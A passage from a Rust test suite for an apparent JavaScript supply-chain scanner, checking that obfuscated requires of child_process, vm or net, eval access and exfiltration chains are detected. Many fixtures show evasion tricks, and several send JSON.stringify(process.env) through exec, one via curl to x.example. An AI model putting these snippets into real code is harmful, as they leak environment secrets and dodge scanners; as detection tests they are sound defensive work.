                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { static get m() { return 'net'; } }
require(K.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class B { get m() { return 'child_process'; } }
class D extends B {}
const d = new D();
require(d.m);",
                RuleId::ChildProcess,
            ),
        ];
        // Harmless arguments, a reassigned parameter, a call spreading its
        // arguments, a setter, a getter of another name, a static getter
        // read on an instance stay a bare dynamic require.
        let harmless = [
            "function load(n) { return require(n); }
load('./a');
load(other);",
            "function load(n) { n = './x'; return require(n); }
load('child_process');",
            "function load(n) { return require(n); }
load(...['child_process']);",
            "const o = { set m(v) {}, n: 'child_process' };
require(o.m);",
            "const o = { get m() { return './m'; }, get n() { return 'vm'; } };
require(o.m);",
            "class K { static get m() { return 'vm'; } }
require(new K().m);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: members of copied objects (`{...o}`, `Object.assign`) are
    /// the copied members, the last copy first.
    #[test]
    fn slo_02_members_of_copied_objects_are_specifiers() {
        let found = [
            (
                "const o = { a: 'child_process' };
const o2 = { ...o };
require(o2.a);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { a: 'vm' };
const o2 = Object.assign({}, o);
require(o2.a);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m() { return 'child_process'; } };
const o2 = Object.assign({}, { b: 1 }, o);
require(o2.m());",
                RuleId::ChildProcess,
            ),
            (
                "const o = { a: './a' };
const o2 = { ...o, ...{ a: 'net' } };
import(o2.a);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A later member shadows a copied one; a local `Object`'s assign is
        // not the global's.
        let harmless = [
            "const o = { a: 'child_process' };
const o2 = { ...o, a: './a' };
require(o2.a);",
            "const o = { a: 'vm' };
const o2 = Object.assign({}, o, { a: './b' });
require(o2.a);",
            "const Object = { assign: (a) => a };
const o = { a: 'vm' };
const o2 = Object.assign({}, o);
require(o2.a);",
        ];
        assert_specifiers(&found[..3], &harmless);
        assert!(rules(found[3].0).contains(&found[3].1), "{:?}", rules(found[3].0));
    }

    /// SLO-02: a member a class's own code sets on `this` (in its
    /// constructor or methods, or as a field) is what a read of that member
    /// through `this` or an instance gives; `this.m()` calls its methods.
    #[test]
    fn slo_02_members_set_on_this_are_specifiers() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "class K { constructor() { this.m = 'child' + '_process'; } run() { return require(this.m); } }",
                RuleId::ChildProcess,
            ),
            (
                "class K { m = 'v' + 'm'; run() { return require(this.m); } }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { static init() { this.n = 'net'; } static load() { return require(this.n); } }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class B { constructor() { this.m = 'child_process'; } }
class D extends B { run() { return require(this.m); } }",
                RuleId::ChildProcess,
            ),
            (
                "const K = class { constructor() { this.m = 'vm'; } };
const k = new K();
require(k.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { constructor() { this.f = () => 'child_process'; } run() { return require(this.f()); } }",
                RuleId::ChildProcess,
            ),
            (
                "class K { name() { return 'vm'; } run() { return require(this.name()); } }",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A harmless member, another name, `this` of a nested function, an
        // instance member read on the class stay a bare dynamic require.
        let harmless = [
            "class K { constructor() { this.m = './local'; } run() { return require(this.m); } }",
            "class K { constructor() { this.n = 'child_process'; } run() { return require(this.m); } }",
            "class K { constructor() { this.m = 'vm'; } run() { return function () { return require(this.m); }; } }",
            "class K { constructor() { this.m = 'vm'; } static load() { return require(this.m); } }",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: an `Object.assign(o, …)` statement copies its sources'
    /// members into the object bound to `o` (the last call and source first).
    #[test]
    fn slo_02_members_an_assign_statement_copies_are_specifiers() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const o = {};
Object.assign(o, { k: 'child' + '_process' });
require(o.k);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { k: './local' };
Object.assign(o, { k: 'vm' });
require(o.k);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const src = { n: 'net' };
const o = {};
Object.assign(o, { n: './a' }, src);
require(o['n']);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = {};
Object.assign(o, { m() { return 'child_process'; } });
require(o.m());",
                RuleId::ChildProcess,
            ),
        ];
        // A harmless later copy, another member, a local `Object`, another
        // target stay a bare dynamic require.
        let harmless = [
            "const o = {};
Object.assign(o, { k: 'vm' });
Object.assign(o, { k: './b' });
require(o.k);",
            "const o = { k: './a' };
Object.assign(o, { j: 'child_process' });
require(o.k);",
            "const Object = { assign() {} };
const o = {};
Object.assign(o, { k: 'vm' });
require(o.k);",
            "const o = {}, p = {};
Object.assign(p, { k: 'vm' });
require(o.k);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a parameter of a function bound to no name is what gives it
    /// its arguments: the call invoking it where it is written, or, for an
    /// array method's callback, each element of the array.
    #[test]
    fn slo_02_parameters_of_unbound_functions_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "(function (m) { return require(m); })('child' + '_process');",
                RuleId::ChildProcess,
            ),
            ("((n) => require(n))('vm');", RuleId::ForbiddenBuiltin),
            (
                "['./a', 'net'].forEach(function (n) { require(n); });",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const mods = ['./a', 'child_process'];
mods.map((s) => require(s));",
                RuleId::ChildProcess,
            ),
            (
                "(function load(m) { return require(m); })('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "(function (a, m) { return require(m); })(1, 'dns');",
                RuleId::NetworkBuiltin,
            ),
        ];
        // Harmless arguments and elements, a reassigned parameter, a spread
        // call, a callback's index parameter, a method not listed stay a
        // bare dynamic require.
        let harmless = [
            "(function (m) { return require(m); })('./local');",
            "(function (m) { m = './x'; return require(m); })('vm');",
            "(function (m) { return require(m); })(...['vm']);",
            "['vm'].forEach((x, i) => require(i));",
            "['./a', './b'].forEach((n) => require(n));",
            "['vm'].reduce((acc, n) => require(n), 0);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a module's function called through a computed key the
    /// specifier following resolves is that function (an exec sink).
    #[test]
    fn slo_02_a_module_member_at_a_followed_key_is_its_function() {
        // Each only child-process and process-env before (no chain).
        let found = [
            "const cp = require('child_process');
function m() { return 'exec'; }
cp[m()](JSON.stringify(process.env));",
            "const cp = require('child_process');
const o = { k: 'exec' + 'Sync' };
cp[o.k]('curl -d ' + JSON.stringify(process.env) + ' x.example');",
            "const cp = require('child_process');
function call(name) { return cp[name](JSON.stringify(process.env)); }
call('sp' + 'awn');",
        ];
        for src in found {
            let r = rules(src);
            assert!(r.contains(&RuleId::ExfiltrationChain), "{src:?}: {r:?}");
        }
        // No secret passed, a harmless module, a key naming no exec
        // function stay without a chain.
        let harmless = [
            (
                "const cp = require('child_process');
function m() { return 'exec'; }
cp[m()]('ls');",
                vec![RuleId::ChildProcess],
            ),
            (
                "const p = require('path');
function m() { return 'join'; }
p[m()](JSON.stringify(process.env));",
                vec![RuleId::ProcessEnv],
            ),
            (
                "const cp = require('child_process');
function m() { return 'toString'; }
cp[m()](JSON.stringify(process.env));",
                vec![RuleId::ChildProcess, RuleId::ProcessEnv],
            ),
        ];
        for (src, want) in harmless {
            assert_eq!(rules(src), want, "{src:?}");
        }
    }

    /// SLO-02: the module's member at a followed key is its function also
    /// when the object is an inline `require` call or the member is read
    /// through an optional chain.
    #[test]
    fn slo_02_a_followed_key_member_of_an_inline_require_or_optional_chain_is_its_function() {
        // Each only child-process and process-env before (no chain).
        let found = [
            "function m() { return 'exec'; }
require('child_process')[m()](JSON.stringify(process.env));",
            "function m() { return 'exec'; }
const g = require('child_process')[m()];
g(JSON.stringify(process.env));",
            "const cp = require('child_process');
function m() { return 'exec'; }
(cp?.[m()])(JSON.stringify(process.env));",
            "const cp = require('child_process');
const o = { k: 'exec' + 'Sync' };
const f = cp?.[o.k];
f(JSON.stringify(process.env));",
        ];
        for src in found {
            let r = rules(src);
            assert!(r.contains(&RuleId::ExfiltrationChain), "{src:?}: {r:?}");
        }
        // No secret passed, a harmless module, a key naming no exec
        // function, an object that is a call of a member stay without a chain.
        let harmless = [
            (
                "function m() { return 'exec'; }
require('child_process')[m()]('ls');",
                vec![RuleId::ChildProcess],
            ),
            (
                "function m() { return 'join'; }
require('path')[m()](JSON.stringify(process.env));",
                vec![RuleId::ProcessEnv],
            ),
            (
                "const cp = require('child_process');
function m() { return 'toString'; }
(cp?.[m()])(JSON.stringify(process.env));",
                vec![RuleId::ChildProcess, RuleId::ProcessEnv],
            ),
            (
                "const lib = { load() { return require('path'); } };
function m() { return 'exec'; }
lib.load()[m()](JSON.stringify(process.env));",
                vec![RuleId::ProcessEnv],
            ),
        ];
        for (src, want) in harmless {
            assert_eq!(rules(src), want, "{src:?}");
        }
    }

    /// SLO-02: `require` stored as a function's or a class's own member
    /// (`K.r = require`, `this.r = require` in a static method) and called
    /// through it is a require call, whose value is the module (an
    /// exfiltration chain through `K.load(…).exec`, `this.f(…).exec`).
    #[test]
    fn slo_02_require_stored_on_a_function_or_class_is_a_require_call() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("function K() {}\nK.r = require;\nK.r('vm');", RuleId::ForbiddenBuiltin),
            (
                "class K {}\nK.r = require;\nK.r('child_' + 'process');",
                RuleId::ChildProcess,
            ),
            (
                "class K { static init() { this.r = require; } }\nK.r('vm');",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const f = () => 1;\nf.r = require;\nf['r']('net');",
                RuleId::ForbiddenBuiltin,
            ),
            // The module such a call loads is that module's object.
            (
                "function K() {}\nK.load = require;\nK.load('child_process').exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "function K() { this.f = require; }
K.prototype.go = function () { this.f('child_process').exec(JSON.stringify(process.env)); };",
                RuleId::ExfiltrationChain,
            ),
        ];
        // Another member, another function, an instance read of a static member.
        let harmless = [
            "function K() {}\nK.r = require;\nK.s('vm');",
            "function K() {}\nK.r = require;\nfunction J() {}\nJ.r('vm');",
            "class K { static init() { this.r = require; } }\nnew K().r('vm');",
        ];
        assert_specifiers(&found, &harmless);
        // Ordinary functions stored on a function or class.
        for src in [
            "function K() {}\nK.log = console.log;\nK.log('vm');",
            "class K {}\nK.parse = JSON.parse;\nK.parse('child_process');",
        ] {
            assert_eq!(rules(src), Vec::<RuleId>::new(), "{src:?}");
        }
    }

    /// SLO-02: arrays changed after their literal (`a[i] = …`, `push`,
    /// `unshift`), read by an element or a callback, arrays joined
    /// (`join`, a concatenating `reduce`), and `Object.assign` chains.
    #[test]
    fn slo_02_changed_and_joined_arrays_and_assign_chains_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("const a = ['v' + 'm'];\nrequire(a[0]);", RuleId::ForbiddenBuiltin),
            (
                "const a = ['fs'];\na[0] = 'child_' + 'process';\nrequire(a[0]);",
                RuleId::ChildProcess,
            ),
            (
                "const a = ['fs'];\na.push('v' + 'm');\nrequire(a[1]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['fs'];\na.unshift('v' + 'm');\nrequire(a[0]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['./x'];\na.push('v' + 'm');\na.forEach((m) => require(m));",
                RuleId::ForbiddenBuiltin,
            ),
            ("require(['child_', 'process'].join(''));", RuleId::ChildProcess),
            (
                "const p = ['child', 'process'];\nrequire(p.join('_'));",
                RuleId::ChildProcess,
            ),
            (
                "const parts = ['child_', 'process'];\nrequire(parts.reduce((s, p) => s + p, ''));",
                RuleId::ChildProcess,
            ),
            (
                "const parts = ['n'];\nparts.push('et');\nrequire(parts.reduce(function (s, p) { return s + p; }));",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = {};\nObject.assign(Object.assign(o, { x: 1 }), { k: 'n' + 'et' });\nrequire(o.k);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless changes and joins, a reversed reducer, another array
        // changed, an element after a spread, a spread push, the outer
        // copy of a chain winning with a harmless value.
        let harmless = [
            "const a = ['./x'];\na[0] = './y';\nrequire(a[0]);",
            "const a = ['./x'];\na.push('./y');\na.forEach((m) => require(m));",
            "require(['./lib', 'util'].join('/'));",
            "const parts = ['./', 'x'];\nrequire(parts.reduce((s, p) => s + p, ''));",
            "require(['child_', 'process'].reduce((s, p) => p + s, ''));",
            "const a = ['./x'];\nconst b = [];\nb.push('vm');\nrequire(a[0]);",
            "const a = [...x, 'vm'];\nrequire(a[0]);",
            "const a = ['./x'];\na.push(...more);\nrequire(a[1]);",
            "const o = {};\nObject.assign(Object.assign(o, { k: 'vm' }), { k: './local' });\nrequire(o.k);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: methods and string members of an object literal assigned to
    /// `module.exports` give what they return or hold.
    #[test]
    fn slo_02_members_of_the_exports_literal_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "module.exports = { m() { return 'v' + 'm'; } };\nrequire(module.exports.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "module.exports = { k: 'child_' + 'process' };\nrequire(module.exports.k).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "module.exports = { get g() { return 'n' + 'et'; } };\nrequire(module.exports['g']);",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless members, another member, a local `module` binding, a
        // literal assigned to another object's `exports`.
        let harmless = [
            "module.exports = { m() { return './a'; } };\nrequire(module.exports.m());",
            "module.exports = { m() { return 'vm'; }, n() { return './b'; } };\nrequire(module.exports.n());",
            "const module = { exports: {} };\nmodule.exports = { k: 'vm' };\nrequire(module.exports.k);",
            "other.exports = { m() { return 'vm'; } };\nrequire(module.exports.m());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a `for … of` loop's variable over an array literal, arrays
    /// changed by `splice` and arrays `concat` builds give their strings.
    #[test]
    fn slo_02_loop_variables_spliced_and_concatenated_arrays_give_their_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "for (const m of ['child_' + 'process']) { require(m).exec(JSON.stringify(process.env)); }",
                RuleId::ExfiltrationChain,
            ),
            (
                "const mods = ['./a', 'v' + 'm'];\nfor (let m of mods) { require(m); }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['fs'];\na.splice(0, 1, 'child_' + 'process');\nrequire(a[0]);",
                RuleId::ChildProcess,
            ),
            (
                "const a = ['./x', 'n' + 'et'];\na.splice(0, 1);\nrequire(a[0]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const a = ['fs'].concat(['v' + 'm']);\nrequire(a[1]);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const parts = ['child_'].concat('process');\nrequire(parts.join(''));",
                RuleId::ChildProcess,
            ),
            (
                "for (const m of ['./a'].concat(['v' + 'm'])) { require(m); }",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless elements, items spliced into another array, a loop over
        // another array, a loop variable assigned again, a spread argument.
        let harmless = [
            "const mods = ['./a', './b'];\nfor (const m of mods) { require(m); }",
            "const a = ['./a'];\na.splice(0, 0, './b');\nrequire(a[0]);",
            "const b = ['./b'];\nconst a = ['./a'];\nb.splice(0, 1, 'vm');\nrequire(a[0]);",
            "const a = ['./a'];\nconst b = ['vm'];\nfor (const m of a) { require(m); }",
            "for (let m of ['./a']) { m = m + '/x'; require(m); }",
            "const a = ['./a'].concat(...xs);\nrequire(a[1]);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a named function put on a prototype or a class later
    /// (`K.prototype.m = f`, `K.m = f`) gives what it returns, and
    /// `require` stored on `this` of a class bound to no name is a require
    /// call.
    #[test]
    fn slo_02_functions_put_on_classes_and_unbound_classes_give_their_modules() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function f() { return 'child_' + 'process'; }
class K {}
K.prototype.m = f;
require(new K().m()).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "const f = () => 'v' + 'm';\nclass K {}\nK.m = f;\nrequire(K.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function f() { return 'n' + 'et'; }
function C() {}
C.prototype['m'] = f;
const c = new C();
require(c.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "new (class { constructor() { this.r = require; this.r('v' + 'm'); } })();",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "module.exports = class {
  constructor() { this.r = require; }
  go() { this.r('child_process').exec(JSON.stringify(process.env)); }
};",
                RuleId::ExfiltrationChain,
            ),
            (
                "exports.K = class { static init() { this.load = require; } static go() { return this.load('vm'); } };",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // A harmless function, another member, a function of another name,
        // an unbound class's static member read by its instances, an object
        // literal's method inside an unbound class.
        let harmless = [
            "function f() { return './a'; }\nclass K {}\nK.prototype.m = f;\nrequire(new K().m());",
            "function f() { return 'vm'; }\nclass K {}\nK.prototype.m = f;\nrequire(new K().n());",
            "function f() { return 'vm'; }\nfunction g() { return './a'; }\nclass K {}\nK.m = g;\nrequire(K.m());",
            "module.exports = class { static init() { this.r = require; } go() { return this.r('vm'); } };",
            "module.exports = class { constructor() { this.r = require; } go() { return { m() { return this.r('vm'); } }; } };",
        ];
        assert_specifiers(&found, &harmless);
        // Ordinary functions stored on `this` of an unbound class.
        let src = "module.exports = class { constructor() { this.log = console.log; } go() { this.log('vm'); } };";
        assert_eq!(rules(src), Vec::<RuleId>::new(), "{src:?}");
    }

    /// SLO-02: `super.m()` and `super.g` in a class's method (static too)
    /// give what the parent's method or getter returns.
    #[test]
    fn slo_02_super_calls_give_the_parents_strings() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "class A { m() { return 'child_' + 'process'; } }
class B extends A { m() { return super.m(); } }
require(new B().m()).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
            (
                "class A { m() { return 'child_'; } }
class B extends A { m() { return super.m() + 'process'; } }
require(new B().m());",
                RuleId::ChildProcess,
            ),
            (
                "class A { m() { return 'v' + 'm'; } }
class B extends A { go() { return require(super.m()); } }",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class A { static m() { return 'v' + 'm'; } }
class B extends A { static m() { return super.m(); } }
require(B.m());",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class A { get g() { return 'n' + 'et'; } }
class B extends A { get g() { return super.g; } }
require(new B().g);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function A() {}
A.prototype.m = function () { return 'v' + 'm'; };
class B extends A { m() { return super.m(); } }
require(new B().m());",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Harmless parents, another method, an `extends` that is no name,
        // a static `super` read on an instance (an object literal's `super`:
        // slo_02_methods_copied_onto_classes_and_literal_supers_give_their_strings).
        let harmless = [
            "class A { m() { return './a'; } }\nclass B extends A { m() { return super.m(); } }\nrequire(new B().m());",
            "class A { m() { return 'vm'; } n() { return './b'; } }
class B extends A { m() { return super.n(); } }
require(new B().m());",
            "class A { m() { return 'vm'; } }\nclass B extends mix(A) { m() { return super.m(); } }\nrequire(new B().m());",
            "class A { static m() { return 'vm'; } m() { return './a'; } }
class B extends A { m() { return super.m(); } }
require(new B().m());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a variable assigned again (`s = …`, `s += …`, in a branch,
    /// a loop, a function) gives every value it may hold, each a world.
    #[test]
    fn slo_02_a_name_assigned_again_gives_each_value_it_may_hold() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("let s = 'fs';\ns = 'child_' + 'process';\nrequire(s);", RuleId::ChildProcess),
            ("let s = 'child_';\ns += 'process';\nrequire(s);", RuleId::ChildProcess),
            ("let s = './a';\nif (c) { s = 'v' + 'm'; }\nrequire(s);", RuleId::ForbiddenBuiltin),
            ("var s;\ns = 'n' + 'et';\nrequire(s);", RuleId::ForbiddenBuiltin),
            ("let s = 'd';\nfor (const x of xs) { s += 'ns'; }\nrequire(s);", RuleId::NetworkBuiltin),
            (
                "let s;\nswitch (k) { case 1: s = './a'; break; default: s = 'v' + 'm'; }\nrequire(s);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "let s = './x';\nfunction pick() { s = 'child_process'; }\nrequire(s).exec(JSON.stringify(process.env));",
                RuleId::ExfiltrationChain,
            ),
        ];
        // Harmless values assigned or added, a value that does not fold,
        // another name changed, a reassigned parameter, a function
        // variable assigned again (not followed).
        let harmless = [
            "let s = './a';\ns = './b';\nrequire(s);",
            "let s = './lib/';\nif (c) { s += 'util'; }\nrequire(s);",
            "let s = 'v';\ns = s.toUpperCase() + 'm';\nrequire(s);",
            "let s = 'child_';\ns = './x';\nlet t = 'child_';\nt += 'process';\nrequire(s);",
            "function load(n) { n = './x'; return require(n); }\nload('vm');",
            "let f = () => './a';\nf = () => 'vm';\nrequire(f());",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: members an object literal's methods set on `this`, `this` in
    /// a literal's computed-key methods and in unnamed functions assigned to
    /// a member (of a literal bound to a name, a constructor's prototype).
    #[test]
    fn slo_02_this_of_literal_setters_computed_methods_and_assigned_functions_is_followed() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "const o = { init() { this.m = 'v' + 'm'; }, load() { return require(this.m); } };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { init: function () { this.n = 'n' + 'et'; }, load() { return require(this.n); } };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { init() { this.m = 'child_' + 'process'; } };\nrequire(o.m);",
                RuleId::ChildProcess,
            ),
            (
                "const o = { ['lo' + 'ad']() { return require(this.m); }, m: 'child_' + 'process' };",
                RuleId::ChildProcess,
            ),
            (
                "const o = { m: 'v' + 'm', ['x' + 'y']: function () { return require(this.m); } };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { m: 'v' + 'm' };\no.load = function () { return require(this.m); };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { s() { return 'v' + 'm'; } };\no.load = function () { return require(this.s()); };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function K() { this.m = 'child_' + 'process'; }
K.prototype.load = function () { return require(this.m); };",
                RuleId::ChildProcess,
            ),
        ];
        // A harmless member, another name, an arrow's `this`, another
        // literal's `this`, a function in a computed key, a named function
        // assigned to a member, a nested function, an arrow assigned.
        let harmless = [
            "const o = { init() { this.m = './local'; }, load() { return require(this.m); } };",
            "const o = { init() { this.n = 'vm'; }, load() { return require(this.m); } };",
            "const o = { init: () => { this.m = 'vm'; }, load() { return require(this.m); } };",
            "const a = { init() { this.m = 'vm'; } };
const b = { load() { return require(this.m); } };",
            "const o = { [(function () { return require(this.m); })()]: 1, m: 'vm' };",
            "const o = { m: 'vm' };\no.load = function K() { return require(this.m); };",
            "const o = { m: 'vm' };\no.load = function () { return function () { return require(this.m); }; };",
            "const o = { m: 'vm' };\no.load = () => require(this.m);",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: `require` stored on `this` (in a constructor, a class's or an
    /// object literal's method, the top level) or on the module's exports
    /// object and called through that member is a require call.
    #[test]
    fn slo_02_require_stored_on_this_or_exports_is_a_require_call() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            ("this.f = require;\nthis.f('vm');", RuleId::ForbiddenBuiltin),
            (
                "class K { constructor() { this.f = require; } go() { return this.f('child_' + 'process'); } }",
                RuleId::ChildProcess,
            ),
            (
                "function K() { this.f = require; }
K.prototype.go = function () { return this.f('v' + 'm'); };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function K() { this.f = require; }
const k = new K();
k.f('child_process');",
                RuleId::ChildProcess,
            ),
            (
                "const o = { init() { this.r = require; }, go() { return this.r('vm'); } };",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "class K { static init() { this.r = require; } static go() { return this['r']('vm'); } }",
                RuleId::ForbiddenBuiltin,
            ),
            ("exports.r = require;\nexports.r('vm');", RuleId::ForbiddenBuiltin),
            (
                "module.exports.r = require;\nmodule.exports.r('net');",
                RuleId::ForbiddenBuiltin,
            ),
        ];
        // Another member, another constructor's `this`, another literal's
        // `this`, a static member read on an instance, a local `exports`.
        let harmless = [
            "function K() { this.f = require; }
K.prototype.go = function () { return this.g('vm'); };",
            "function K() { this.f = require; }
function J() {}
J.prototype.go = function () { return this.f('vm'); };",
            "const o = { init() { this.r = require; } };
const p = { go() { return this.r('vm'); } };",
            "class K { static init() { this.r = require; } go() { return this.r('vm'); } }",
            "exports.r = require;
function f(exports) { return exports.r('vm'); }",
        ];
        assert_specifiers(&found, &harmless);
        // Ordinary functions stored on `this` and the exports object.
        for src in [
            "function K() { this.log = console.log; this.load = (p) => p; }
K.prototype.go = function () { this.log('vm'); return this.load('child_process'); };",
            "class J { constructor() { this.f = JSON.parse; } go() { return this.f('vm'); } }",
            "const o = { init() { this.r = (x) => x; }, go() { return this.r('vm'); } };",
            "this.x = console.log;\nthis.x('vm');\nexports.y = String;\nexports.y('child_process');",
        ] {
            assert_eq!(rules(src), Vec::<RuleId>::new(), "{src:?}");
        }
    }

    /// SLO-02: `this` of a constructor function is an instance of it (what
    /// its body sets on `this`), and `this` of an object literal's method is
    /// the literal.
    #[test]
    fn slo_02_this_of_constructor_functions_and_literal_methods_is_followed() {
        // Each scanned as a bare dynamic-require before.
        let found = [
            (
                "function K() { this.m = 'child_' + 'process'; }
require(new K().m);",
                RuleId::ChildProcess,
            ),
            (
                "const K = function () { this.m = 'v' + 'm'; };
const k = new K();
require(k.m);",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "function K() { this.f = () => 'child_process'; }
require(new K().f());",
                RuleId::ChildProcess,
            ),
            (
                "const o = { m: 'v' + 'm', load() { return require(this.m); } };
o.load();",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { n: 'ne' + 't', load: function () { return require(this.n); } };
o.load();",
                RuleId::ForbiddenBuiltin,
            ),
            (
                "const o = { name() { return 'child_' + 'process'; }, get() { return require(this.name()); } };
o.get();",
                RuleId::ChildProcess,
            ),
        ];
        // A harmless member, another name, an arrow member's `this`, another
        // literal's member, a nested anonymous function's `this`.
        let harmless = [
            "function K() { this.m = './local'; }
require(new K().m);",
            "function K() { this.n = 'child_process'; }
require(new K().m);",
            "const o = { m: 'vm', load: () => require(this.m) };",
            "const a = { m: 'vm' };
const o = { load() { return require(this.m); } };",
            "function K() { this.m = 'vm'; return function () { return require(this.m); }; }",
        ];
        assert_specifiers(&found, &harmless);
    }

    /// SLO-02: a computed key of a powerful object that the specifier
    /// following finds (a returned string, a string member, a parameter)
    /// obtains what it names.
    #[test]
    fn slo_02_a_followed_computed_key_obtains_what_it_names() {
        let found = [
            (
                "function f() { return 'bin' + 'ding'; }
process[f()]('fs');",
                RuleId::ProcessBinding,
            ),
            (
                "const o = { k: 'dlopen' };
process[o.k](m, p);",
                RuleId::ProcessDlopen,
            ),
            (
                "function g() { return 'ev' + 'al'; }
globalThis[g()](x);",
                RuleId::EvalCall,
            ),
            (
                "function call(name, a) { return globalThis[name](a); }
call('ev' + 'al', x);",
                RuleId::EvalCall,
            ),
        ];
        // Harmless followed keys stay a bare dynamic access.
        let harmless = [
            "function f() { return 'version'; }
use(process[f()]);",
            "const o = { k: 'setTimeout' };
globalThis[o.k](cb, 1);",
        ];
        assert_found_else_bare(&found, &harmless, RuleId::DynamicAccess);
    }

    /// SLO-03: the benign twins of the routes above — alternatives,
    /// elements, returns and arguments that are all harmless, and the
    /// ordinary global-object and default-value idioms — stay clean.
    #[test]
    fn slo_03_harmless_alternatives_elements_and_returns_stay_clean() {
        let clean = [
            "const p = c ? require('path') : require('url');\np.join(a, b);",
            "const cfg = opts || { retries: 3 };\nconsole.log(cfg.retries);",
            "const port = opts.port || 3000;\nlisten(port);",
            "const log = debug ? console.log : () => {};\nlog('x');",
            "const root = typeof globalThis !== 'undefined' ? globalThis : window;\nroot.setTimeout(f, 10);",
            "const v = typeof process !== 'undefined' ? process.version : 'browser';\nuse(v);",
            "for (const m of [require('path'), require('url')]) m.format(x);",
            "[require('util'), require('path')].map((m) => m.format);",
            "const fmt = [require('util'), require('path')].find(Boolean);\nfmt.format(x);",
            "const v = (() => { if (a) return require('path'); return require('url'); })();\nv.join(a);",
            "const o = (() => { try { return JSON.parse(s); } catch (e) { return {}; } })();\nuse(o.a);",
            "function run(m) { return m.join(a); }\nrun(require('path'));\nrun(require('url'));",
        ];
        assert_route(&[], &clean);
    }

    #[test]
    fn declaration_files_parse_as_declarations() {
        let src = "export const program: Command;\nexport const stop: unique symbol;";
        assert!(analyze("index.d.ts", src).parse_errors.is_empty());
        assert!(!analyze("index.ts", src).parse_errors.is_empty());
    }

    #[test]
    fn members_of_literals_keep_their_values() {
        let has = |src: &str, r: RuleId| rules(src).contains(&r);
        assert!(has("const o = {g: globalThis}; o.g.eval(x)", RuleId::EvalCall));
        assert!(has("const o = {p: process}; o.p.binding('fs')", RuleId::ProcessBinding));
        assert!(has(
            "const o = {a: {b: {p: process}}}; o.a.b.p.dlopen(m, f)",
            RuleId::ProcessDlopen
        ));
        assert!(has(
            "const o = Object.assign({}, {r: require}); o.r('vm')",
            RuleId::ForbiddenBuiltin
        ));
        assert!(has(
            "const o = {...{p: process}}; o.p.binding('x')",
            RuleId::ProcessBinding
        ));
        assert!(has(
            "const o = {}; o.g = globalThis; o.g['ev' + 'al'](x)",
            RuleId::EvalCall
        ));
        assert!(has("const [, g] = [1, globalThis]; g.eval(x)", RuleId::EvalCall));
        assert!(has("const a = [globalThis]; a.pop().eval(x)", RuleId::EvalCall));
